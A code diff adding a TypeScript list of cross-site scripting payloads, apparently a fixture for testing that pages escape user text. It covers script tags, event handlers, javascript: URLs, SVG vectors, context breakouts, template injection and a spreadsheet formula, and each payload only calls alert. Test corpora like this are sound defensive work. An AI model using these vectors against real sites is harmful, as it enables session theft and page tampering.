@@ -1,0 +1,61 @@
+/** Texts that become script where a page forgets to treat them as text. Each would open a dialog. */
+const CALL = 'alert(document.domain)';
+const quoted = (call: string) => call.replaceAll("'", '&#39;');
+
+const tags = [
+  `<script>${CALL}</script>`,
+  `<ScRiPt>${CALL}</sCrIpT>`,
+  `<script src="data:text/javascript,${CALL}"></script>`,
+  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
+  `</title><script>${CALL}</script>`,
+  `</textarea><script>${CALL}</script>`,
+  `</style><script>${CALL}</script>`,
+  `</noscript><script>${CALL}</script>`,
+  `--><script>${CALL}</script><!--`,
+  `]]><script>${CALL}</script>`,
+  `<img src=x onerror=${CALL}>`,
+  `<img src=x onerror="${CALL}">`,
+  `<img/src=x/onerror=${CALL}>`,
+  `<img src="x" oNeRrOr='${quoted(CALL)}'>`,
+  `<img srcset=x onerror=${CALL}>`,
+  `<svg onload=${CALL}>`,
+  `<svg><script>${CALL}</script></svg>`,
+  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${CALL}"><text y=20>oi</text></a></svg>`,
+  `<math><mi xlink:href="data:x,<script>${CALL}</script>">`,
+  `<body onload=${CALL}>`,
+  `<iframe src="javascript:${CALL}"></iframe>`,
+  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
+  `<object data="javascript:${CALL}"></object>`,
+  `<embed src="javascript:${CALL}">`,
+  `<video><source onerror=${CALL}></video>`,
+  `<audio src=x onerror=${CALL}>`,
+  `<details open ontoggle=${CALL}>`,
+  `<input autofocus onfocus=${CALL}>`,
+  `<select autofocus onfocus=${CALL}></select>`,
+  `<textarea autofocus onfocus=${CALL}></textarea>`,
+  `<marquee onstart=${CALL}>oi</marquee>`,
+  `<form action="javascript:${CALL}"><button>oi</button></form>`,
+  `<button formaction="javascript:${CALL}">oi</button>`,
+  `<a href="javascript:${CALL}">oi</a>`,
+  `<a href="&#106;avascript:${CALL}">oi</a>`,
+  `<base href="javascript:/a/-${CALL}//">`,
+  `<link rel=stylesheet href="data:,*{background:url(javascript:${CALL})}">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
+  `<template shadowrootmode=open><script>${CALL}</script></template>`,
+];
+
+const others = [
+  `javascript:${CALL}`,
+  `https://exemplo.com/"onmouseover="${CALL}`,
+  `https://exemplo.com/'><img src=x onerror=${CALL}>`,
+  `" autofocus onfocus="${CALL}`,
+  `' onmouseover='${CALL}`,
+  `\`\${${CALL}}\``,
+  `{{constructor.constructor('${CALL}')()}}`,
+  `\${${CALL}}`,
+  `*<img src=x onerror=${CALL}>*`,
+  `=HYPERLINK("javascript:${CALL}";"oi")`,
+];
+
+export const ATTACK_TEXTS: readonly string[] = [...tags, ...others];
